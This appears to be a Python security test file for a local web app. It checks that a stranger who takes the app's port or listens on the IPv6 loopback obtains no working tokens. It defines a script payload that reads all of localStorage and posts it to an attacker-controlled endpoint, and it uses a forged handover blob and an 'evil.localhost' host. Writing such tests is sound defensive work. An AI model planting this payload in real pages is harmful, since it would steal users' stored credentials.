"""Whoever takes the app's port while it is off, or has the same port at another address."""

from __future__ import annotations

import json
from pathlib import Path

import httpx
import pytest
from playwright.sync_api import expect
from starlette.testclient import TestClient

from attacks.listener import listening
from director.cli.app_command import _bind
from director.store import Store
from director.web import app_server, make_app
from web.pages.conftest import _home, app  # noqa: F401  fixtures
from web.pages.windows import App, a_workflow, enter
from web.pages.windows import serving as served
from web.rooms import HOME, a_studio, let_in

# What a stranger's page does under the origin that was the app's.
TAKES = "<script>fetch('/told', {method: 'POST', headers: {'x-kept': JSON.stringify(localStorage)}})</script>"


@pytest.mark.attack(
    "A stranger takes the app's port while it is off: a window that is still open asks it, and is "
    "loaded again from it; what it got is used on the app when that is back",
    must="nothing that it got opens anything, and what it seals itself moves no window",
    tries=4,
)
@pytest.mark.promise("F4")
def test_whoever_takes_the_port_gets_no_key_that_works(app: App) -> None:  # noqa: F811
    """All headers, and all that is in the storage of the origin."""
    a_workflow(app.store, "bank")
    with served(app.store, app.stage) as (url, studio):
        page, other = app.context.new_page(), app.context.new_page()
        enter(page, url, studio)
        for each in (page, other):
            with each.expect_response("**/api/handover"):
                each.goto(f"{url}/w/bank")
    forged = json.dumps({"nonce": "00" * 12, "sealed": "00" * 60})
    at = ("127.0.0.1", int(url.rpartition(":")[2]))
    with listening(at) as stranger:
        stranger.pages |= {"/w/bank": ("text/html", TAKES)}
        stranger.pages |= {"/resume": ("application/json", forged)}
        while not any(path.startswith("/resume") for path, _ in stranger.asked):
            page.wait_for_timeout(50)
        with page.expect_response("**/told"):
            page.reload()
        expect(other.locator("#offline")).to_be_visible()
        assert other.url.startswith(f"{url}/w/bank")
        sent = [headers for _, headers in stranger.asked]
    page.close()
    kept = json.loads(next(each["x-kept"] for each in sent if "x-kept" in each))
    keys = {each.get("authorization", "") for each in sent} | {
        f"Bearer {text}" for text in kept.values()
    }
    assert len(keys) > 1
    with served(app.store, app.stage, at[1]):
        for key in keys:
            asked = httpx.get(f"{url}/api/workflows", headers={"authorization": key}, timeout=60)
            assert asked.status_code == 401
        # The window that never left our pages is led to the new ones.
        expect(other.locator("#offline")).to_be_hidden()
        other.close()


@pytest.mark.attack(
    "A stranger who had the port leaves a service worker and pages behind, under the app's own name",
    must="the next start has another name; under the old one windows get a sealed link and no more",
    tries=3,
)
@pytest.mark.promise("F2")
def test_a_name_is_used_for_one_start(store: Store, tmp_path: Path) -> None:
    """So what lives under the old name is of another origin."""
    first = a_studio(store, tmp_path)
    with let_in(first) as client:
        kept = client.post("/api/handover").json()
    second = a_studio(store, tmp_path)
    assert first.sessions.host != second.sessions.host
    with TestClient(make_app(second), base_url=HOME) as client:
        old = {"host": f"{first.sessions.host}:7878"}
        for path in ("/", "/launch", "/api/workflows", "/static/enter.js", "/here"):
            assert client.get(path, headers=old).status_code == 421
        told = client.get("/resume", params={"id": kept["id"]}, headers=old)
        assert set(told.json()) == {"nonce", "sealed"}
        assert client.get("/resume", params={"id": "x"}, headers=old).status_code == 404
        evil = client.get("/resume", params=kept, headers={"host": "evil.localhost:7878"})
        assert evil.status_code == 421


@pytest.mark.attack(
    "Another user listens on the same port of ::1, where browsers look first for names under localhost",
    must="the app takes another port, or does not start on the one that was asked for",
    tries=3,
)
@pytest.mark.promise("F4")
def test_nobody_answers_in_our_place_on_the_other_loopback(
    app: App,  # noqa: F811
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The control: a browser that is sent to such a name asks there."""
    with listening(("::1", 0)) as stranger:
        port = int(stranger.url.rpartition(":")[2])
        page = app.context.new_page()
        page.goto(f"http://d0123.localhost:{port}/launch#token")
        assert any(path == "/launch" for path, _ in stranger.asked)
        page.close()
        monkeypatch.setattr(app_server, "PORT", port)
        with pytest.raises(OSError, match="in use"):
            _bind("127.0.0.1", port, "")
        sockets = _bind("127.0.0.1", None, "")
    places = [each.getsockname()[:2] for each in sockets]
    for each in sockets:
        each.close()
    assert port not in {place[1] for place in places}
    assert [place[0] for place in places] == ["127.0.0.1", "::1"]
